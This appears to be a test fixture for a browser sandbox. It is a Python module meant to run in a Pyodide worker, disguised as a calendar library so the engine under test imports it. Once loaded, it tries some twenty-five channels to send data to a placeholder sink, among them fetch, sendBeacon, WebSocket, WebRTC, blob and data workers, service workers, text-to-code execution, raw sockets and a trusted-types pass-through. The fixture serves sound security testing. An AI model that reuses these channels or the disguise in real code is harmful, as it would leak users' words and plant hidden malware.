"""Every way we know in which Python in the engine's worker can reach another server.

tests/test_browser_policy.py packs this under the name of a library that calendar files need, so that our engine imports
it where it would import the real one: hostile code in the place that sees a person's words. Addresses are filled in.
"""

import json

import js
from pyodide.ffi import to_js

SINK, UDP, OWN = "@SINK@", "@UDP@", "@OWN@"
ONLY = "@ONLY@".split()


def options(**names):
    """A plain object of script."""
    return to_js(names, dict_converter=js.Object.fromEntries)


def trusted(address):
    """An address that the page's rule for script addresses has passed: its names are public, so anyone can make one."""
    global policy
    if not hasattr(js, "trustedTypes"):
        return address
    policy = policy or js.trustedTypes.createPolicy("st", options(createScriptURL=lambda it, *_: it))
    return policy.createScriptURL(address)


policy = None


def tell(name, outcome):
    """Report at once: a way that never comes back must not hide what went before."""
    js.postMessage(options(kind="tried", name=name, outcome=outcome))


def way(act):
    """Try one way out; whether anything got there, the sink decides."""
    name = act.__name__.replace("_", "-")
    if ONLY and name not in ONLY:
        return
    tell(name, "never came back")
    try:
        act(f"{SINK}python/{name}")
        tell(name, "begun")
    except BaseException as error:
        tell(name, f"{type(error).__name__}: {error}"[:160])


def source(address):
    """A script that asks for an address in four ways."""
    to = json.dumps(address)
    return f"""fetch({to}, {{ mode: "no-cors" }}).catch(() => {{}});
try {{ const x = new XMLHttpRequest(); x.open("GET", {to}); x.send(); }} catch {{}}
try {{ new WebSocket({to}.replace("http", "ws")); }} catch {{}}
import({to}).catch(() => {{}});"""


def blob(text):
    """The address of a script made here."""
    return js.URL.createObjectURL(js.Blob.new(to_js([text]), options(type="text/javascript")))


if hasattr(js, "openFetch"):
    js.self.fetch = js.openFetch


@way
def fetch(to):
    js.fetch(to, options(mode="no-cors"))


@way
def fetch_keepalive(to):
    js.fetch(to, options(mode="no-cors", method="POST", body="words", keepalive=True))


@way
def xhr(to):
    request = js.XMLHttpRequest.new()
    request.open("GET", to)
    request.send()


@way
def websocket(to):
    js.WebSocket.new(to.replace("http", "ws"))


@way
def websocket_stream(to):
    js.WebSocketStream.new(to.replace("http", "ws"))


@way
def eventsource(to):
    js.EventSource.new(to)


@way
def beacon(to):
    js.navigator.sendBeacon(to, "words")


@way
def webtransport(to):
    js.WebTransport.new(f"https://127.0.0.1:{UDP}/webtransport")


@way
def webrtc(to):
    peer = js.RTCPeerConnection.new(options(iceServers=[options(urls=f"stun:127.0.0.1:{UDP}")]))
    peer.createDataChannel("escape")
    peer.createOffer().then(peer.setLocalDescription)


@way
def cache_add(to):
    js.caches.open("escape").then(lambda cache: cache.add(js.Request.new(to, options(mode="no-cors"))))


@way
def font(to):
    js.FontFace.new("escape", f"url({to})").load()


@way
def import_scripts(to):
    js.importScripts(trusted(to))


@way
def code_from_text(to):
    js.Function.new(source(to))()


@way
def timeout_of_text(to):
    js.setTimeout(source(to), 0)


@way
def load_package(to):
    import pyodide_js

    pyodide_js.loadPackage(to + ".whl")


@way
def pyodide_fetch(to):
    from pyodide.http import open_url

    open_url(to)


@way
def urllib_request(to):
    from urllib.request import urlopen

    urlopen(to)  # noqa: S310  a way out is what it is


@way
def run_script(to):
    from pyodide.code import run_js

    run_js(source(to))


@way
def plain_socket(to):
    import socket

    host = SINK.split("/")[2]
    connection = socket.socket()
    connection.setblocking(False)
    connection.connect_ex((host.split(":")[0], int(host.split(":")[1])))


@way
def xhr_sync(to):
    request = js.XMLHttpRequest.new()
    request.open("GET", to, False)
    request.send()


# Last, because an engine may wait for a worker that is started from a worker.
@way
def worker_elsewhere(to):
    js.Worker.new(trusted(to))


@way
def worker_blob(to):
    js.Worker.new(trusted(blob(source(to))))


@way
def worker_data(to):
    js.Worker.new(trusted("data:text/javascript," + js.encodeURIComponent(source(to))))


@way
def worker_own_file(to):
    js.Worker.new(trusted(f"{OWN}#{to}"))


@way
def shared_worker(to):
    js.SharedWorker.new(trusted(blob(source(to))))


@way
def service_worker(to):
    js.navigator.serviceWorker.register(trusted(to))


js.postMessage(options(kind="over"))
raise ImportError("nothing here makes calendars")
